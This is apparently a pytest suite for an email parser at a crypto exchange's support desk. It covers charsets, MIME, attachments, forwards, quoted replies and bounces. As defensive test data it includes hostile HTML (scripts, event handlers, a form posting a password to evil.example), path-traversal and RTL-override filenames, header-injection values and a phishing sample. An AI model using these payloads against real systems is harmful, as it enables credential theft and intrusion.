"""Reading incoming mail: charsets, MIME structure, attachments, forwarded mail, quoted
history, robots and bounces, and mail built to break the reader. No database: the parser
works on bytes alone."""

from __future__ import annotations

import base64
import quopri
import time
from datetime import UTC, datetime, timedelta
from email import policy
from email.message import EmailMessage

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from pharos.mail.parsing import MailParseError, ParsedMail, parse_mail
from pharos.mail.parsing.limits import FORWARDED_SEPARATOR, MAX_NESTING_DEPTH

CUSTOMER_HEADERS = (
    "From: Alice Customer <Alice.Customer@Example.com>\n"
    "To: Support <support@pharos.test>\n"
    "Subject: Withdrawal stuck\n"
    "Message-ID: <m1@example.com>\n"
    "Date: Mon, 05 Jan 2026 10:00:00 +0800\n"
)


def raw_mail(
    body: bytes | str = "Hello", *, extra: str = "", headers: str = CUSTOMER_HEADERS
) -> bytes:
    """A mail from the customer: header lines written with "\\n", sent with CRLF."""
    head = (headers + extra).replace("\n", "\r\n").encode()
    if isinstance(body, str):
        body = body.replace("\n", "\r\n").encode()
    return head + b"\r\n" + body


def customer_reply(body: str, subject: str = "Re: Withdrawal stuck") -> ParsedMail:
    headers = CUSTOMER_HEADERS.replace("Subject: Withdrawal stuck", f"Subject: {subject}")
    return parse_mail(
        raw_mail(body.encode(), extra="Content-Type: text/plain; charset=utf-8\n", headers=headers)
    )


def multipart(boundary: str, *parts: str, content_type: str = "multipart/mixed") -> bytes:
    """A customer's multipart mail; each part is its headers, a blank line and its body."""
    body = "".join(f"--{boundary}\n{part}\n" for part in parts) + f"--{boundary}--\n"
    return raw_mail(
        body, extra=f'MIME-Version: 1.0\nContent-Type: {content_type}; boundary="{boundary}"\n'
    )


def encoded_word(text: str, charset: str, encoding: str = "B") -> str:
    data = text.encode(charset)
    if encoding == "B":
        return f"=?{charset}?B?{base64.b64encode(data).decode()}?="
    quoted = "".join(
        chr(byte) if chr(byte).isascii() and chr(byte).isalnum() else f"={byte:02X}"
        for byte in data
    )
    return f"=?{charset}?Q?{quoted}?="


# --- The plain case -------------------------------------------------------------------


def test_customer_plain_text_mail_is_read_completely() -> None:
    mail = parse_mail(
        raw_mail(
            "My withdrawal of 0.5 BTC is stuck.\nPlease help.",
            extra=(
                "Cc: Bob <BOB@example.org>, carol@example.net\n"
                "Reply-To: Alice Private <alice.private@example.com>\n"
                "In-Reply-To: <PH-2026-000123.1@pharos.test>\n"
                "References: <root@pharos.test>\n <PH-2026-000123.1@pharos.test>\n"
                "Authentication-Results: mx.pharos.test;\n dkim=pass header.d=example.com;\n dmarc=pass\n"
                "Content-Type: text/plain; charset=utf-8\n"
            ),
        )
    )

    assert mail.message_id == "m1@example.com"
    assert mail.in_reply_to == ("PH-2026-000123.1@pharos.test",)
    assert mail.references == ("root@pharos.test", "PH-2026-000123.1@pharos.test")
    assert mail.subject == "Withdrawal stuck"
    assert mail.from_address == "alice.customer@example.com"
    assert mail.from_name == "Alice Customer"
    assert mail.sender_domain == "example.com"
    assert mail.reply_to == "alice.private@example.com"
    assert mail.to == ("support@pharos.test",)
    assert mail.cc == ("bob@example.org", "carol@example.net")
    assert mail.date == datetime(2026, 1, 5, 2, 0, tzinfo=UTC)
    assert mail.date.utcoffset() == timedelta(hours=8)
    assert mail.text == "My withdrawal of 0.5 BTC is stuck.\nPlease help."
    assert mail.new_text == mail.text
    assert mail.html is None
    assert mail.attachments == ()
    assert mail.authentication_results == (
        "mx.pharos.test; dkim=pass header.d=example.com; dmarc=pass",
    )
    assert not mail.auto_submitted
    assert not mail.is_bounce
    assert mail.bounced_message_id is None
    assert mail.bounce_reason == ""
    assert mail.problems == ()
    assert mail.language == "en"


def test_chinese_mail_is_recognised_as_chinese() -> None:
    mail = parse_mail(
        raw_mail(
            "你好，我的提现一直没有到账，请帮忙查一下。订单号 12345。",
            extra="Content-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: 8bit\n",
        )
    )

    assert mail.language == "zh-hans"


def test_date_in_unknown_time_zone_is_read_as_utc() -> None:
    mail = parse_mail(raw_mail(headers=CUSTOMER_HEADERS.replace("+0800", "-0000")))

    assert mail.date == datetime(2026, 1, 5, 10, 0, tzinfo=UTC)
    assert mail.date.tzinfo is not None


# --- Charsets -------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("declared", "encoding", "text"),
    [
        ("utf-8", "utf-8", "提现 0.5 BTC — ok ✓"),
        # 镕 is in GBK but not in GB2312: real "GB2312" mail is GBK.
        ("gb2312", "gbk", "朱镕基，你好"),
        ("GBK", "gbk", "你好，提现没有到账"),
        ("gb18030", "gb18030", "你好 € 😀"),
        # 嘅 is Hong Kong Big5 (HKSCS), not plain Big5.
        ("big5", "big5hkscs", "你嘅提款已經處理"),
        ("iso-8859-1", "iso-8859-1", "Café à Zürich"),
        # Labelled Latin-1 but written by Windows: 0x80 is the euro sign.
        ("iso-8859-1", "cp1252", "Fee: 5 € – “quoted”"),
        ("windows-1252", "cp1252", "Fee: 5 € – “quoted”"),
    ],
)
@pytest.mark.parametrize("transfer_encoding", ["8bit", "quoted-printable", "base64"])
def test_body_in_each_charset_and_transfer_encoding_is_decoded(
    declared: str, encoding: str, text: str, transfer_encoding: str
) -> None:
    data = text.encode(encoding)
    if transfer_encoding == "base64":
        data = base64.encodebytes(data)
    elif transfer_encoding == "quoted-printable":
        data = quopri.encodestring(data)
    mail = parse_mail(
        raw_mail(
            data,
            extra=f"Content-Type: text/plain; charset={declared}\nContent-Transfer-Encoding: {transfer_encoding}\n",
        )
    )

    assert mail.text == text
    assert mail.problems == ()


def test_unknown_charset_is_read_as_utf8_and_noted() -> None:
    mail = parse_mail(
        raw_mail("提现没有到账".encode(), extra="Content-Type: text/plain; charset=x-unknown\n")
    )

    assert mail.text == "提现没有到账"
    assert any("unknown charset" in problem and "x-unknown" in problem for problem in mail.problems)


def test_utf8_label_on_gbk_bytes_is_read_as_gb18030_and_noted() -> None:
    mail = parse_mail(
        raw_mail(
            "你好，提现没有到账".encode("gbk"), extra="Content-Type: text/plain; charset=utf-8\n"
        )
    )

    assert mail.text == "你好，提现没有到账"
    assert any("read as gb18030" in problem for problem in mail.problems)


def test_bytes_in_no_charset_are_read_as_latin1_without_raising() -> None:
    mail = parse_mail(
        raw_mail(b"caf\xe9 \xff\xfe\x80 end", extra="Content-Type: text/plain; charset=x-unknown\n")
    )

    assert mail.text == "caf\xe9 \xff\xfe\x80 end"
    assert any("latin-1" in problem for problem in mail.problems)


def test_label_that_is_no_text_codec_does_not_raise() -> None:
    mail = parse_mail(raw_mail(b"Hello", extra="Content-Type: text/plain; charset=base64\n"))

    assert mail.text == "Hello"


@pytest.mark.parametrize(
    ("raw_subject", "expected"),
    [
        (encoded_word("提现没有到账", "gb2312"), "提现没有到账"),
        (encoded_word("提現沒有到賬", "big5"), "提現沒有到賬"),
        (encoded_word("提現沒有到賬", "big5", "Q"), "提現沒有到賬"),
        (encoded_word("Größe prüfen", "utf-8", "Q"), "Größe prüfen"),
        (encoded_word("提现没有到账", "utf-8"), "提现没有到账"),
        # Adjacent words: the white space between them is not part of the text.
        (f"{encoded_word('你好', 'utf-8')}\n {encoded_word('世界', 'utf-8')}", "你好世界"),
        # Words in different charsets, and plain text around them.
        (
            f"Re: {encoded_word('你好', 'gbk')} {encoded_word('Zürich', 'iso-8859-1', 'Q')} again",
            "Re: 你好Zürich again",
        ),
        # One character split across two words: 世 is e4 b8 96 in UTF-8.
        (
            "=?UTF-8?B?" + base64.b64encode("你好".encode() + b"\xe4").decode() + "?= "
            "=?UTF-8?B?" + base64.b64encode(b"\xb8\x96" + "界".encode()).decode() + "?=",
            "你好世界",
        ),
        ("=?utf-8?q?Hello_World?=", "Hello World"),
        ("Plain ASCII subject", "Plain ASCII subject"),
    ],
)
def test_encoded_words_in_the_subject_are_decoded(raw_subject: str, expected: str) -> None:
    headers = CUSTOMER_HEADERS.replace("Subject: Withdrawal stuck", f"Subject: {raw_subject}")

    mail = parse_mail(raw_mail(headers=headers))

    assert mail.subject == expected
    assert mail.problems == ()


@pytest.mark.parametrize(
    ("name", "charset"), [("张三", "gb2312"), ("張三", "big5"), ("张三", "utf-8")]
)
def test_encoded_display_name_in_from_is_decoded(name: str, charset: str) -> None:
    headers = CUSTOMER_HEADERS.replace(
        "From: Alice Customer <Alice.Customer@Example.com>",
        f"From: {encoded_word(name, charset)} <zhang.san@example.cn>",
    )

    mail = parse_mail(raw_mail(headers=headers))

    assert mail.from_name == name
    assert mail.from_address == "zhang.san@example.cn"


@pytest.mark.parametrize("encoding", ["utf-8", "gbk"])
def test_raw_8bit_headers_are_read_as_utf8_or_gbk(encoding: str) -> None:
    raw = raw_mail().replace(b"Subject: Withdrawal stuck", "Subject: 提现没有到账".encode(encoding))
    raw = raw.replace(b"From: Alice Customer", "From: 张三".encode(encoding))

    mail = parse_mail(raw)

    assert mail.subject == "提现没有到账"
    assert mail.from_name == "张三"
    assert mail.problems == ()


# --- Bodies ---------------------------------------------------------------------------

HOSTILE_HTML = """<html><head><title>Newsletter</title><style>p { color: red }</style>
<script>alert("head")</script></head>
<body onload="steal()">
<p>Hello <b>team</b>,</p>
<p>My withdrawal<br>is   stuck &amp; I&nbsp;need help.</p>
<ul><li>Coin: BTC</li><li>Amount: 0.5</li></ul>
<ol><li>first</li><li>second</li></ol>
<script>document.cookie</script>
<form action="https://evil.example/collect"><input name="password"></form>
<iframe src="https://evil.example/frame"></iframe>
<a href="https://example.com/help" onclick="steal()">help page</a>
<a href="javascript:alert(1)">click</a>
<img src="cid:logo@example.com" onerror="steal()">
</body></html>"""


def test_html_only_mail_is_converted_to_text_and_sanitized() -> None:
    mail = parse_mail(raw_mail(HOSTILE_HTML, extra="Content-Type: text/html; charset=utf-8\n"))

    assert mail.text == (
        "Hello team,\n\nMy withdrawal\nis stuck & I need help.\n\n"
        "- Coin: BTC\n- Amount: 0.5\n1. first\n2. second\n"
        "help page click"
    )
    assert mail.html is not None
    for forbidden in (
        "<script",
        "alert",
        "<style",
        "color: red",
        "onload",
        "onclick",
        "onerror",
        "<form",
        "<input",
        "<iframe",
        "javascript:",
        "Newsletter",
    ):
        assert forbidden not in mail.html
    assert (
        '<a href="https://example.com/help" rel="noopener noreferrer nofollow">help page</a>'
        in mail.html
    )
    assert mail.problems == ()


def test_alternative_mail_uses_the_plain_part_for_text_and_the_html_part_for_html() -> None:
    raw = multipart(
        "alt",
        "Content-Type: text/plain; charset=utf-8\n\nPlain version",
        "Content-Type: text/html; charset=utf-8\n\n<p>HTML <i>version</i></p>",
        content_type="multipart/alternative",
    )

    mail = parse_mail(raw)

    assert mail.text == "Plain version"
    assert mail.html == "<p>HTML <i>version</i></p>"


def test_alternative_mail_with_an_empty_plain_part_uses_the_html_for_text() -> None:
    raw = multipart(
        "alt",
        "Content-Type: text/plain; charset=utf-8\n\n   ",
        "Content-Type: text/html; charset=utf-8\n\n<div>Only here</div>",
        content_type="multipart/alternative",
    )

    assert parse_mail(raw).text == "Only here"


def test_mixed_mail_keeps_body_and_attachments_apart() -> None:
    pdf = b"%PDF-1.4 statement"
    raw = multipart(
        "mixed",
        "Content-Type: text/plain; charset=utf-8\n\nStatement attached.",
        "Content-Type: Application/PDF; name=statement.pdf\nContent-Disposition: attachment; filename=statement.pdf\n"
        f"Content-Transfer-Encoding: base64\n\n{base64.b64encode(pdf).decode()}",
        'Content-Type: text/plain; charset=utf-8\nContent-Disposition: attachment; filename="notes.txt"\n\nnot the body',
        "Content-Type: text/csv\nContent-Disposition: attachment; filename=trades.csv\n\na,b\n1,2",
    )

    mail = parse_mail(raw)

    assert mail.text == "Statement attached."
    assert [(a.filename, a.content_type, a.inline) for a in mail.attachments] == [
        ("statement.pdf", "application/pdf", False),
        ("notes.txt", "text/plain", False),
        ("trades.csv", "text/csv", False),
    ]
    assert mail.attachments[0].data == pdf
    assert mail.attachments[1].data == b"not the body"


def test_related_mail_marks_images_its_html_shows_as_inline() -> None:
    png = b"\x89PNG\r\n\x1a\n fake image"
    raw = multipart(
        "rel",
        'Content-Type: text/html; charset=utf-8\n\n<p>Screenshot:</p><img src="cid:shot%40example.com">',
        "Content-Type: image/png\nContent-ID: <shot@example.com>\nContent-Transfer-Encoding: base64\n\n"
        + base64.b64encode(png).decode(),
        "Content-Type: application/pdf\nContent-ID: <doc@example.com>\nContent-Disposition: inline\n\n%PDF",
        "Content-Type: image/gif\nContent-ID: <unused@example.com>\nContent-Disposition: attachment\n\nGIF89a",
        content_type='multipart/related; type="text/html"',
    )

    mail = parse_mail(raw)

    shot, document, unused = mail.attachments
    assert (shot.filename, shot.inline, shot.content_id, shot.data) == (
        "image-1.png",
        True,
        "shot@example.com",
        png,
    )
    assert (document.inline, document.content_id) == (True, "doc@example.com")
    assert (unused.filename, unused.inline) == ("image-3.gif", False)
    assert mail.text == "Screenshot:"
    assert "cid:" not in (mail.html or "")


# --- Attachment names -----------------------------------------------------------------


@pytest.mark.parametrize(
    ("disposition", "expected"),
    [
        ("attachment; filename*=UTF-8''%E5%B1%8F%E5%B9%95.png", "屏幕.png"),
        (
            "attachment; filename*0*=UTF-8''%E5%B1%8F%E5%B9; filename*1*=%95%E6%88%AA%E5%9B%BE.png",
            "屏幕截图.png",
        ),
        ("attachment; filename*=gbk''%C6%C1%C4%BB.png", "屏幕.png"),
        ('attachment; filename="=?gb2312?B?xsHEu73YzbwucG5n?="', "屏幕截图.png"),
        (f'attachment; filename="{encoded_word("提现记录.xlsx", "utf-8")}"', "提现记录.xlsx"),
        ('attachment; filename="../../etc/passwd"', "passwd"),
        ('attachment; filename="C:\\\\Users\\\\alice\\\\evil.exe"', "evil.exe"),
        ('attachment; filename="invoice\u202efdp.exe"', "invoicefdp.exe"),
        ('attachment; filename="tab\tand\x01control.pdf"', "tab and control.pdf"),
        ('attachment; filename="..."', "attachment-1.pdf"),
        ("attachment", "attachment-1.pdf"),
    ],
)
def test_attachment_names_are_decoded_and_made_safe(disposition: str, expected: str) -> None:
    raw = multipart(
        "b",
        "Content-Type: text/plain\n\nSee attached.",
        f"Content-Type: application/pdf\nContent-Disposition: {disposition}\n\n%PDF",
    )

    (attachment,) = parse_mail(raw.replace(b"\\\\", b"\\")).attachments

    assert attachment.filename == expected


def test_name_in_content_type_is_used_when_the_disposition_has_none() -> None:
    raw = multipart("b", 'Content-Type: image/jpeg; name="=?utf-8?B?5oiq5Zu+LmpwZw==?="\n\nJPEG')

    (attachment,) = parse_mail(raw).attachments

    assert attachment.filename == "截图.jpg"


def test_long_attachment_name_is_cut_keeping_its_extension() -> None:
    raw = multipart(
        "b",
        f'Content-Type: application/pdf\nContent-Disposition: attachment; filename="{"长" * 300}.pdf"\n\n%PDF',
    )

    (attachment,) = parse_mail(raw).attachments

    assert len(attachment.filename) == 120
    assert attachment.filename.endswith("长.pdf")


def test_unnamed_attachments_get_names_from_their_type() -> None:
    raw = multipart(
        "b",
        "Content-Type: text/plain\n\nTwo files.",
        "Content-Type: image/png\nContent-Disposition: attachment\n\nPNG",
        "Content-Type: application/pdf\n\n%PDF",
        "Content-Type: application/x-never-heard-of\n\n???",
    )

    names = [attachment.filename for attachment in parse_mail(raw).attachments]

    assert names == ["image-1.png", "attachment-2.pdf", "attachment-3.bin"]


# --- Forwarded mail -------------------------------------------------------------------


def forwarded_phishing_mail() -> bytes:
    phishing = EmailMessage()
    phishing["From"] = "Pharos Security <security@pharos-verify.example>"
    phishing["To"] = "alice.customer@example.com"
    phishing["Subject"] = "Your account is locked"
    phishing["Date"] = "Sun, 04 Jan 2026 08:00:00 +0000"
    phishing["Message-ID"] = "<phish@pharos-verify.example>"
    phishing.set_content(
        "Unlock it here: https://pharos-verify.example\n> this line is content, not a quote\n"
    )
    phishing.add_attachment(
        b"%PDF-1.4 unlock form", maintype="application", subtype="pdf", filename="unlock.pdf"
    )

    report = EmailMessage()
    for name, value in [
        ("From", "Alice Customer <alice.customer@example.com>"),
        ("To", "support@pharos.test"),
        ("Subject", "Is this from you?"),
        ("Message-ID", "<m2@example.com>"),
        ("Date", "Mon, 05 Jan 2026 10:00:00 +0800"),
    ]:
        report[name] = value
    report.set_content("Is this mail really from you?\n\n-- \nAlice")
    report.add_attachment(phishing)
    return report.as_bytes(policy=policy.SMTP)


def test_forwarded_mail_is_part_of_the_text_and_never_trimmed() -> None:
    mail = parse_mail(forwarded_phishing_mail())

    forwarded = (
        f"{FORWARDED_SEPARATOR}\n"
        "From: Pharos Security <security@pharos-verify.example>\n"
        "Date: Sun, 04 Jan 2026 08:00:00 +0000\n"
        "Subject: Your account is locked\n"
        "To: alice.customer@example.com\n"
        "\n"
        "Unlock it here: https://pharos-verify.example\n"
        "> this line is content, not a quote"
    )
    assert mail.text == "Is this mail really from you?\n\n-- \nAlice\n\n" + forwarded
    assert mail.new_text == "Is this mail really from you?\n\n" + forwarded
    assert [attachment.filename for attachment in mail.attachments] == ["unlock.pdf"]
    assert mail.attachments[0].data == b"%PDF-1.4 unlock form"
    assert mail.message_id == "m2@example.com"
    assert mail.problems == ()


def test_forward_inline_in_the_body_is_kept() -> None:
    mail = customer_reply(
        "Please look at this.\n\n"
        "---------- Forwarded message ---------\n"
        "From: Scammer <scam@evil.example>\n"
        "Date: Sun, 4 Jan 2026 at 08:00\n"
        "Subject: Your account\n"
        "To: <alice@example.com>\n\n"
        "> Send us your seed phrase\n",
        subject="Fwd: Your account",
    )

    assert mail.new_text == mail.text
    assert "Send us your seed phrase" in mail.new_text


def test_outlook_forward_keeps_the_forwarded_header_block() -> None:
    mail = customer_reply(
        "FYI, see below.\n\n"
        "________________________________\n"
        "From: Scammer <scam@evil.example>\n"
        "Sent: Sunday, January 4, 2026 8:00 AM\n"
        "To: Alice <alice@example.com>\n"
        "Subject: Your account\n\n"
        "Send us your seed phrase",
        subject="FW: Your account",
    )

    assert "Send us your seed phrase" in mail.new_text
    assert mail.new_text.startswith("FYI, see below.")


# --- Quoted history and signatures ----------------------------------------------------


@pytest.mark.parametrize(
    "history",
    [
        "On Mon, 5 Jan 2026 at 10:00, Pharos Support <support@pharos.test> wrote:\n> Please try again.\n> Thanks",
        # Gmail wraps a long attribution onto two lines.
        "On Mon, 5 Jan 2026 at 10:00, Pharos Support Team of the Exchange <\nsupport@pharos.test> wrote:\n\n> Please try again.",
        # Apple Mail, and an attribution above history that is not ">"-quoted.
        "On Jan 5, 2026, at 10:00, Pharos Support <support@pharos.test> wrote:\n\nPlease try again.",
        "在 2026年1月5日 10:00，Pharos 客服 <support@pharos.test> 写道：\n> 请再试一次。",
        "Pharos 客服 <support@pharos.test> 于2026年1月5日周一\n10:00写道：\n> 请再试一次。",
        "-----Original Message-----\nFrom: Pharos Support\nSent: Monday, January 5, 2026 10:00\nPlease try again.",
        "________________________________\nFrom: Pharos Support <support@pharos.test>\nSent: Monday, January 5, 2026 10:00 AM\n"
        "To: Alice <alice@example.com>\nSubject: RE: Withdrawal stuck\n\nPlease try again.",
        "*From:* Pharos Support <support@pharos.test>\n*Sent:* Monday, January 5, 2026 10:00 AM\n*To:* Alice\n\nPlease try again.",
        "发件人: Pharos 客服 <support@pharos.test>\n发送时间: 2026年1月5日 10:00\n收件人: Alice\n主题: 回复: 提现\n\n请再试一次。",
        "发件人：Pharos 客服\n时间：2026年1月5日(星期一) 上午10:00\n收件人：Alice\n主题：回复：提现\n\n请再试一次。",
        '------------------ 原始邮件 ------------------\n发件人: "Pharos"<support@pharos.test>;\n请再试一次。',
        "------------------&nbsp;Original&nbsp;------------------\nFrom: support".replace(
            "&nbsp;", " "
        ),
        "-- \nAlice Customer\nTrader since 2019",
        "Sent from my iPhone\n\n> On 5 Jan 2026, at 10:00, Pharos Support wrote:\n> Please try again.",
        "发自我的iPhone\n\n------------------ 原始邮件 ------------------\n请再试一次。",
    ],
)
def test_reply_keeps_only_what_the_customer_wrote(history: str) -> None:
    mail = customer_reply(f"It worked, thank you!\n\n{history}")

    assert mail.new_text == "It worked, thank you!"
    assert history.splitlines()[-1] in mail.text


def test_answers_between_quoted_lines_stay() -> None:
    mail = customer_reply(
        "On Mon, 5 Jan 2026 at 10:00, Pharos Support <support@pharos.test> wrote:\n"
        "> Which coin did you withdraw?\n"
        "BTC\n"
        "> And the amount?\n"
        "0.5\n"
        "\n"
        "-- \n"
        "Alice"
    )

    assert mail.new_text == "BTC\n0.5"


def test_reply_that_is_only_history_keeps_everything() -> None:
    mail = customer_reply("> Please try again.\n> Thanks")

    assert mail.new_text == mail.text == "> Please try again.\n> Thanks"


def test_gmail_html_reply_is_trimmed_like_plain_text() -> None:
    html = (
        '<div dir="ltr">Thanks, that worked!</div><br>'
        '<div class="gmail_quote"><div dir="ltr" class="gmail_attr">On Mon, 5 Jan 2026 at 10:00, '
        "Pharos Support &lt;support@pharos.test&gt; wrote:<br></div>"
        '<blockquote class="gmail_quote"><div>Please try again.</div><div>Pharos</div></blockquote></div>'
    )
    mail = parse_mail(raw_mail(html, extra="Content-Type: text/html; charset=utf-8\n"))

    assert mail.text == (
        "Thanks, that worked!\n\n"
        "On Mon, 5 Jan 2026 at 10:00, Pharos Support <support@pharos.test> wrote:\n\n"
        "> Please try again.\n> Pharos"
    )
    assert mail.new_text == "Thanks, that worked!"


def test_lines_that_only_look_like_markers_stay() -> None:
    body = (
        "On Monday I sent 0.5 BTC.\n"
        "From: my Ledger wallet\n"
        "Sent: yesterday\n"
        "It has not arrived, sent from my phone app."
    )

    assert customer_reply(body).new_text == body


# --- Robots and bounces ---------------------------------------------------------------


@pytest.mark.parametrize(
    ("extra", "automatic"),
    [
        ("", False),
        ("Auto-Submitted: no\n", False),
        ("Auto-Submitted: auto-replied\n", True),
        ("Auto-Submitted: auto-generated; owner-email=x@example.com\n", True),
        ("Precedence: bulk\n", True),
        ("Precedence: junk\n", True),
        ("Precedence: list\n", True),
        ("Precedence: auto_reply\n", True),
        ("Precedence: first-class\n", False),
        ("X-Autoreply: yes\n", True),
        ("X-Autorespond: yes\n", True),
        ("X-Auto-Response-Suppress: OOF, DR\n", True),
        ("X-Auto-Response-Suppress: All\n", True),
        ("X-Auto-Response-Suppress: DR, RN\n", False),
        ("List-Id: <traders.lists.example.com>\n", True),
        ("List-Unsubscribe: <mailto:leave@lists.example.com>\n", True),
        ("X-Loop: support@pharos.test\n", True),
    ],
)
def test_automatic_mail_is_recognised_by_its_headers(extra: str, automatic: bool) -> None:
    assert parse_mail(raw_mail(extra=extra)).auto_submitted is automatic


@pytest.mark.parametrize(
    "sender",
    [
        "MAILER-DAEMON@mx.example.com",
        "postmaster@example.com",
        "noreply@exchange.example",
        "no-reply@x.example",
        "do-not-reply@x.example",
        "DoNotReply@x.example",
    ],
)
def test_mail_from_robot_addresses_is_automatic(sender: str) -> None:
    headers = CUSTOMER_HEADERS.replace("Alice Customer <Alice.Customer@Example.com>", sender)

    assert parse_mail(raw_mail(headers=headers)).auto_submitted


DELIVERY_STATUS_NOTIFICATION = """From: Mail Delivery System <MAILER-DAEMON@mx.pharos.test>
To: support@pharos.test
Subject: Undelivered Mail Returned to Sender
Message-ID: <20260105020001.4F1A2B3C@mx.pharos.test>
Date: Mon,  5 Jan 2026 10:00:01 +0800 (CST)
Auto-Submitted: auto-replied
MIME-Version: 1.0
Content-Type: multipart/report; report-type=delivery-status;
\tboundary="4F1A2B3C.1767578401/mx.pharos.test"

This is a MIME-encapsulated message.

--4F1A2B3C.1767578401/mx.pharos.test
Content-Description: Notification
Content-Type: text/plain; charset=us-ascii

This is the mail system at host mx.pharos.test.

I'm sorry to have to inform you that your message could not
be delivered to one or more recipients.

--4F1A2B3C.1767578401/mx.pharos.test
Content-Description: Delivery report
Content-Type: message/delivery-status

Reporting-MTA: dns; mx.pharos.test
X-Postfix-Queue-ID: 4F1A2B3C
Arrival-Date: Mon,  5 Jan 2026 10:00:00 +0800 (CST)

Final-Recipient: rfc822; copy@example.org
Action: delivered
Status: 2.0.0

Final-Recipient: rfc822; gone@example.org
Original-Recipient: rfc822;gone@example.org
Action: failed
Status: 5.1.1
Remote-MTA: dns; mx.example.org
Diagnostic-Code: smtp; 550 5.1.1 <gone@example.org>: Recipient address rejected:
    User unknown in virtual mailbox table

--4F1A2B3C.1767578401/mx.pharos.test
Content-Description: Undelivered Message Headers
Content-Type: text/rfc822-headers

From: Pharos Support <support@pharos.test>
To: gone@example.org
Subject: Re: [PH-2026-000123] Withdrawal stuck
Message-ID: <PH-2026-000123.42@pharos.test>
Date: Mon, 05 Jan 2026 09:59:59 +0800

--4F1A2B3C.1767578401/mx.pharos.test--
"""


def test_delivery_status_notification_is_a_bounce_naming_the_returned_message() -> None:
    mail = parse_mail(DELIVERY_STATUS_NOTIFICATION.replace("\n", "\r\n").encode())

    assert mail.is_bounce
    assert mail.auto_submitted
    assert mail.bounced_message_id == "PH-2026-000123.42@pharos.test"
    assert mail.bounce_reason == (
        "smtp; 550 5.1.1 <gone@example.org>: Recipient address rejected: "
        "User unknown in virtual mailbox table"
    )
    assert mail.text.startswith("This is the mail system at host mx.pharos.test.")
    assert mail.attachments == ()
    assert mail.problems == ()


def test_bounce_returning_the_whole_message_names_it() -> None:
    raw = multipart(
        "dsn",
        "Content-Type: text/plain\n\nDelivery failed.",
        "Content-Type: message/delivery-status\n\nReporting-MTA: dns; mx.example.com\n\nFinal-Recipient: rfc822; x@example.org\nAction: failed\nStatus: 5.2.2",
        "Content-Type: message/rfc822\n\nFrom: support@pharos.test\nMessage-ID: <original@pharos.test>\nSubject: Hello\n\nOriginal body",
        content_type="multipart/report; report-type=delivery-status",
    )

    mail = parse_mail(raw)

    assert mail.is_bounce
    assert mail.bounced_message_id == "original@pharos.test"
    assert mail.bounce_reason == "5.2.2"


def test_chinese_bounce_without_a_report_is_recognised_by_sender_and_subject() -> None:
    headers = CUSTOMER_HEADERS.replace(
        "Alice Customer <Alice.Customer@Example.com>", "postmaster@qq.example"
    ).replace("Subject: Withdrawal stuck", f"Subject: {encoded_word('系统退信', 'gb2312')}")

    mail = parse_mail(
        raw_mail(
            "抱歉，您的邮件无法送达。".encode(),
            headers=headers,
            extra="Content-Type: text/plain; charset=utf-8\n",
        )
    )

    assert mail.is_bounce
    assert mail.bounced_message_id is None
    assert mail.bounce_reason == ""


def test_customer_mail_mentioning_a_bounce_is_no_bounce() -> None:
    headers = CUSTOMER_HEADERS.replace(
        "Subject: Withdrawal stuck", "Subject: Undelivered withdrawal"
    )

    assert not parse_mail(raw_mail(headers=headers)).is_bounce


# --- Mail built to break the reader ---------------------------------------------------


@pytest.mark.parametrize(
    "raw",
    [
        b"",
        b"   \r\n\r\n",
        b"\x00\x01\x02\xff\xfe binary",
        b"just some words, no headers\r\n",
        b"\r\nbody only",
    ],
)
def test_bytes_that_are_no_mail_are_refused(raw: bytes) -> None:
    with pytest.raises(MailParseError):
        parse_mail(raw)


def test_missing_from_message_id_and_date_are_noted() -> None:
    mail = parse_mail(b"Subject: anonymous\r\n\r\nHello")

    assert (mail.from_address, mail.from_name, mail.sender_domain) == (None, "", None)
    assert mail.message_id is None
    assert mail.date is None
    assert mail.text == "Hello"
    assert set(mail.problems) == {"no From header", "no Message-ID header", "no Date header"}


@pytest.mark.parametrize(
    ("header", "problem"),
    [
        ("From: undisclosed-recipients:;", "the From address could not be read"),
        ("From: Alice <not an address>", "the From address could not be read"),
        (
            "From: a@example.com, b@example.com",
            "the From header names several addresses; the first was used",
        ),
        ("Date: next Tuesday", "the Date header could not be read"),
        ("Message-ID: <>", "empty Message-ID"),
    ],
)
def test_unreadable_headers_are_noted(header: str, problem: str) -> None:
    name = header.split(":")[0]
    headers = (
        "\n".join(line for line in CUSTOMER_HEADERS.splitlines() if not line.startswith(name))
        + f"\n{header}\n"
    )

    mail = parse_mail(raw_mail(headers=headers))

    assert mail.problems == (problem,)


def test_encoded_header_injection_stays_in_the_subject() -> None:
    injected = encoded_word("Hello\r\nBcc: victim@example.org\r\n\r\nbody", "utf-8")
    headers = CUSTOMER_HEADERS.replace("Subject: Withdrawal stuck", f"Subject: {injected}")

    mail = parse_mail(raw_mail(headers=headers))

    assert mail.subject == "Hello Bcc: victim@example.org body"
    assert "victim@example.org" not in mail.to + mail.cc


def test_bare_cr_in_a_subject_cannot_start_a_new_header() -> None:
    raw = raw_mail().replace(
        b"Subject: Withdrawal stuck", b"Subject: Hello\rCc: victim@example.org"
    )

    mail = parse_mail(raw)

    assert mail.subject == "Hello Cc: victim@example.org"
    assert mail.cc == ()


def test_bare_lf_ends_a_header_line() -> None:
    raw = raw_mail().replace(b"Subject: Withdrawal stuck", b"Subject: Hello\nX-Injected: yes")

    assert parse_mail(raw).subject == "Hello"


def test_subject_is_one_line_of_at_most_250_characters() -> None:
    headers = CUSTOMER_HEADERS.replace(
        "Subject: Withdrawal stuck", "Subject: " + "\t word\x00\x7f" * 200
    )

    subject = parse_mail(raw_mail(headers=headers)).subject

    assert len(subject) == 250
    assert subject.startswith("word word word")
    assert "  " not in subject


def test_invalid_base64_yields_what_can_be_read() -> None:
    mail = parse_mail(
        raw_mail("SGVsbG8g*&^%d29y\nbGQ", extra="Content-Transfer-Encoding: base64\n")
    )

    assert mail.text == "Hello world"
    assert "invalid base64 (decoded what could be read)" in mail.problems


def test_truncated_multipart_keeps_what_arrived() -> None:
    raw = raw_mail(
        "--b1\nContent-Type: text/plain\n\nFirst part\n"
        '--b1\nContent-Type: application/pdf; name="report.pdf"\nContent-Transfer-Encoding: base64\n\nJVBERi0xLjQK\n',
        extra='MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary="b1"\n',
    )

    mail = parse_mail(raw)

    assert mail.text == "First part"
    assert [(a.filename, a.data) for a in mail.attachments] == [("report.pdf", b"%PDF-1.4\n")]
    assert "a multipart part never ends (the mail may be truncated)" in mail.problems


